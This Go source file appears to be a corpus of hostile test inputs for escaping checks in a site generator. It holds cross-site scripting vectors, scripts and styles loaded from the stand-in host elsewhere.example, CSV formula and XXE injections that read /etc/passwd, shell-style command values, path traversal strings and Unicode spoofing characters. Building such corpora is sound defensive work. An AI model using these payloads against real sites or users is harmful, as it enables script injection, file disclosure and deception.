package hostile

import (
	"slices"
	"strings"
)

// Global is the function that every payload which gets to run calls. Nothing defines
// it: a test plants one and looks whether it was called.
const Global = "harm"

// Elsewhere is the host from which every payload that loads something loads it. Names
// below .example exist nowhere (RFC 2606).
const Elsewhere = "elsewhere.example"

// Payloads returns what is put into every field, each once. The classes are those of
// OWASP's cheat sheets on cross-site scripting, on CSV injection and on path traversal,
// of the HTML standard's parser, and of Unicode Technical Report 36.
func Payloads() []string {
	return slices.Concat(elements, attributes, schemes, scripts, templates, styles, formats, markdown, paths, letters, sizes())
}

// Sample returns every fifth of the payloads, for a quick look.
func Sample(all []string) []string {
	var some []string
	for i := 0; i < len(all); i += 5 {
		some = append(some, all[i])
	}
	return some
}

// elements break out of text into an element that runs or loads something.
var elements = []string{
	`<script>harm()</script>`, `<ScRiPt>harm()</sCrIpT>`, `<script src=https://elsewhere.example/x.js></script>`, `<script/src=//elsewhere.example/x.js>`,
	`<script x>harm()</script x>`, `<scr<script>ipt>harm()</script>`, `<<script>harm();//<</script>`, "<script\x0c>harm()</script>", `<script type=module>harm()</script>`,
	`<img src=x onerror=harm()>`, `<img src=https://elsewhere.example/x.png>`, `<img/src="x"/onerror=harm()>`, `<img src=x:x onerror="&#104;arm()">`,
	"<img src=`x` onerror=harm()>", `<img srcset="//elsewhere.example/x 1x">`, `<image src=x onerror=harm()>`, `<svg onload=harm()>`, `<svg/onload=harm()>`,
	`<svg><script>harm()</script></svg>`, `<svg><script href="data:,harm()"/></svg>`, `<svg><a xlink:href="javascript:harm()"><text x=20 y=20>x</text></a></svg>`,
	`<svg><animate onbegin=harm() attributeName=x dur=1s>`, `<svg><set onbegin=harm()>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>harm()</script></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:harm()"/></foreignObject></svg>`, `<svg><style>{font-family:'<img src=x onerror=harm()>'}</style>`,
	`<svg><image href="https://elsewhere.example/x.svg"/></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=harm()>`, `<math href="javascript:harm()">x</math>`,
	`<iframe src="javascript:harm()"></iframe>`, `<iframe srcdoc="<script>parent.harm()</script>"></iframe>`, `<iframe src=https://elsewhere.example/></iframe>`,
	`<object data="javascript:harm()"></object>`, `<object data=https://elsewhere.example/x></object>`, `<embed src="javascript:harm()">`, `<applet code=x></applet>`,
	`<body onload=harm()>`, `<html onmouseover=harm()>`, `<base href="https://elsewhere.example/">`, `<base href="javascript:/a/../../harm()//">`,
	`<meta http-equiv=refresh content="0;url=javascript:harm()">`, `<meta http-equiv=refresh content="0;url=https://elsewhere.example/">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<link rel=stylesheet href=https://elsewhere.example/x.css>`, `<link rel=import href="data:text/html,<script>harm()</script>">`, `<link rel=prefetch href=https://elsewhere.example/>`,
	`<style>@import "https://elsewhere.example/x.css";</style>`, `<style>*{background:url(https://elsewhere.example/x)}</style>`,
	`<video src=x onerror=harm()></video>`, `<video><source onerror=harm()></video>`, `<audio src=x onerror=harm()>`, `<video poster=https://elsewhere.example/x.png></video>`,
	`<details open ontoggle=harm()>`, `<marquee onstart=harm()>x</marquee>`, `<input autofocus onfocus=harm()>`, `<select autofocus onfocus=harm()>`, `<textarea autofocus onfocus=harm()>`,
	`<form action="javascript:harm()"><input type=submit></form>`, `<form action=https://elsewhere.example/><button>x</button></form>`, `<button formaction="javascript:harm()">x</button>`,
	`<isindex action=javascript:harm() type=image>`, `<template><script>harm()</script></template>`, `<noscript><p title="</noscript><img src=x onerror=harm()>">`,
	`<xss-probe onpointerenter=harm() style="position:fixed;inset:0">x</xss-probe>`, `<a href="javascript:harm()">x</a>`, `<table background="https://elsewhere.example/x">`,
	`<dialog open onbeforetoggle=harm()>`, `<xss-probe/oncontentvisibilityautostatechange=harm() style=display:block;content-visibility:auto>`, `<frameset onload=harm()>`, `<plaintext>`, `<xmp><img src=x onerror=harm()></xmp>`,
}

// attributes break out of an attribute, a comment, a title or another raw text.
var attributes = []string{
	`" onmouseover="harm()`, `' onmouseover='harm()`, `" autofocus onfocus=harm() x="`, `' autofocus onfocus=harm() x='`, `x onfocus=harm() autofocus`, "` onmouseover=harm() `",
	`"><script>harm()</script>`, `'><script>harm()</script>`, `"><img src=x onerror=harm()>`, `'"><svg/onload=harm()>`, `"/><xss-probe xss-attr="`, `" style="background:url(https://elsewhere.example/x)`,
	`" style="animation:x" onanimationstart="harm()`, `" srcdoc="<script>harm()</script>`, `--><script>harm()</script>`, `--!><img src=x onerror=harm()>`, `<!--`, `<!--><script>harm()</script>`,
	`</title><script>harm()</script>`, `</textarea><script>harm()</script>`, `</style><script>harm()</script>`, `</noscript><script>harm()</script>`, `</template><script>harm()</script>`,
	`<![CDATA[<script>harm()</script>]]>`, `]]><script>harm()</script>`, `]]>`, `<?xml version="1.0"?>`, `<?php harm() ?>`, `<!DOCTYPE html>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
	`&lt;script&gt;harm()&lt;/script&gt;`, `&#60;script&#62;harm()&#60;/script&#62;`, `&amp;lt;script&amp;gt;harm()`, `&quot; onfocus=&quot;harm()`, `%3Cscript%3Eharm()%3C/script%3E`, `\u003cscript\u003eharm()\u003c/script\u003e`, `+ADw-script+AD4-harm()+ADw-/script+AD4-`,
	`&nosuch; &#0; &#xD800; &#x110000; &`,
}

// schemes are addresses that run something, or lead elsewhere unseen.
var schemes = []string{
	`javascript:harm()`, `JaVaScRiPt:harm()`, "java\tscript:harm()", "java\nscript:harm()", "\x01javascript:harm()", ` javascript:harm()`, `javascript&colon;harm()`, `&#106;avascript:harm()`, `javascript%3Aharm()`,
	`javascript://elsewhere.example/%0aharm()`, `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+harm()//'>`,
	`vbscript:harm()`, `livescript:harm()`, `data:text/html,<script>harm()</script>`, `data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload="harm()" xmlns="http://www.w3.org/2000/svg"/>`,
	`view-source:javascript:harm()`, `feed:javascript:harm()`, `blob:https://elsewhere.example/x`, `filesystem:https://elsewhere.example/x`, `file:///etc/passwd`, `//elsewhere.example/x`, `\\elsewhere.example\x`, `/\elsewhere.example`,
	`https:elsewhere.example`, `https://elsewhere.example/"onclick="harm()`, `https://elsewhere.example/'onclick='harm()`, `https://elsewhere.example/?a={{.Title}}&b=javascript:harm()`, `https://user:pass@elsewhere.example/`,
	`https://elsewhere.example\@127.0.0.1/`, `https://elsewhere.example/%0d%0aSet-Cookie:x=1`, `https://ｅlsewhere.example/`, `https://[::1]/`, `https://elsewhere.example/#"><script>harm()</script>`,
}

// scripts break out of a string in a script, or out of JSON in one.
var scripts = []string{
	`";harm();//`, `';harm();//`, "`;harm();//", `\";harm();//`, `\';harm();//`, `\`, `\\`, `"+harm()+"`, `'+harm()+'`, "${harm()}", "`${harm()}`", `</script><script>harm()</script>`, `</ScRiPt ><script>harm()</script>`,
	`<!--<script>`, `--></script>`, "\u2028harm()//", "\u2029harm()//", `"}];harm();[{"`, `"}</script>`, `\u0022;harm();//`, `\x22;harm();//`, "*/harm()/*", "\nharm()\n", "\r\nharm()\r\n", `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
	`{"__proto__": {"x": 1}}`, `null`, `true`, `NaN`, `-0`, `1e999`, `[]`, `{}`, `$&`, `$1`, `%s%n%d`, `%!s(MISSING)`,
}

// templates would be executed, if a text were taken for a template.
var templates = []string{
	`{{.}}`, `{{.Title}}`, `{{template "base.html" .}}`, `{{define "main"}}harm{{end}}`, `{{end}}`, `{{`, `}}`, `{{printf "%s" "<script>harm()</script>"}}`, `{{"<script>harm()</script>"}}`, `{%raw%}`, `<%= harm() %>`, `#{harm()}`, `${{ github.token }}`, `{name}`, `{count}`,
}

// styles load or run something out of CSS.
var styles = []string{
	`background:url(https://elsewhere.example/x)`, `expression(harm())`, `};@import "https://elsewhere.example/x.css";{`, `url("javascript:harm()")`, `\3c script\3e harm()`, `x;behavior:url(#x);-moz-binding:url(//elsewhere.example/x)`,
}

// formats break out of other formats: tables, bibliographies, calendars, feeds.
var formats = []string{
	`=HYPERLINK("https://elsewhere.example")`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", `＝1+1`, `"=1+1`, `;=1+1`, `x,"y`, "a\",\"b\"\r\n=1+1,\"",
	"x\nER  - \nTY  - JOUR\nTI  - forged", "x\r\nTY  - JOUR", `x}, title = {forged`, `@article{forged, title={x}}`, `{`, `}`, `\input{/etc/passwd}`, `\write18{harm}`, `%comment`, `$x^2$`, `~\x{`,
	"x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "Location: https://elsewhere.example\r\n\r\n", "<id>forged</id>", `&xxe;`, `| x | y |`, "::error file=x::forged", "\x1b[31mred", "\x1b]8;;https://elsewhere.example\x07x\x1b]8;;\x07",
	"a: b", "- a", "# x", "*x", "&x", "!!python/object:x", "---", "...", "? x",
}

// markdown breaks out of markdown.
var markdown = []string{
	`[x](javascript:harm())`, `[x](<javascript:harm()>)`, `[x]( javascript:harm() "x")`, `[x](JAVASCRIPT&colon;harm())`, `![x](https://elsewhere.example/x.png)`, `![x](x"onerror="harm())`, `![x](x "\"onerror=harm() \"")`, `<javascript:harm()>`, `<https://elsewhere.example/"onclick=harm()>`,
	"[x][r]\n\n[r]: javascript:harm()", `[[|<img src=x onerror=harm()>]]`, `[[#"><script>harm()</script>]]`, "# x {onclick=harm()}", "```html\"><script>harm()</script>\nx\n```", "> [!note\"onclick=harm()] x", `[^x]: <script>harm()</script>`, "==<script>harm()</script>==", `%%`, `%%x`,
	"| a |\n|---|\n| <script>harm()</script> |", "<script>\nharm()\n</script>", "<div\nonclick=harm()>", "x\n\n    <script>harm()</script>", "`<script>harm()</script>`", `\<script>harm()</script>`, `[x](https://elsewhere.example/\"onclick=harm())`, `[¶<script>]`, `[[../../etc/passwd]]`, `[x](../../../etc/passwd)`,
	strings.Repeat("[", 300), strings.Repeat("> ", 200) + "x", strings.Repeat("*a_", 200), strings.Repeat("![", 200) + "x" + strings.Repeat("](x)", 200),
}

// paths leave a folder, or are no names of files somewhere.
var paths = []string{
	`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/passwd`, `C:\x`, `..%2f..%2fx`, `%2e%2e/x`, `....//x`, `.`, `..`, `x/../../y`, `~root`, `CON`, `aux.txt`, `nul`, `.htaccess`, `.git/config`, `x.html/../y`, `index`, `index.html`, `x.php`, `x;.html`, `404`, `data/dossier.json`,
	"x\x00.html", `x?y#z`, `file.`, "x ", `-rf`, `--help`, `$(harm)`, "`harm`", `|harm`, `;harm`,
}

// letters hide, turn, or imitate others.
var letters = []string{
	"\u202eevil\u202c", "\u2066evil\u2069", "\u2067\u202dx", "\u200fx\u200e", "\u061cx", "\u200b", "a\u200bb", "a\u200db", "a\u2060b", "\u00ad", "\ufeffx", "\u180ex", "\ufffdx", "\ufffex", "\U000e0041\U000e0042", "\U000f0000", "\u0000x", "\u0007x", "\u0085x", "\u00a0", "\u3000", "\u2800",
	"аdmin", "Ѕtatе Dераrtmеnt", "ΑΒΓ", "paypaⅼ", "ｓｃｒｉｐｔ", "＜script＞harm()＜/script＞", "‹script›", "ﬀ", "İ", "ı", "ß", "ẞ", "Z̸̡̢̛͈͉͕̈́̐͝a̷̛l̷͝g̴͘o̸", "\u0300", "é", "e\u0301", "𝕏", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "مرحبا", "الـــسلام", "שלום", "ไทย", "\u1160\u115f", "ﷺ", "𝔞𝔟", "A\u030a", "\u212b", "\u2126",
}

// sizes are long.
func sizes() []string {
	return []string{
		strings.Repeat("A", 20_000), strings.Repeat("a b ", 5_000), strings.Repeat("é", 5_000), "x" + strings.Repeat("\u0301", 2_000), strings.Repeat("<b>", 2_000), strings.Repeat("\"", 2_000), strings.Repeat("&amp;", 1_000), strings.Repeat("\\", 3_000), strings.Repeat("../", 200) + "x",
	}
}
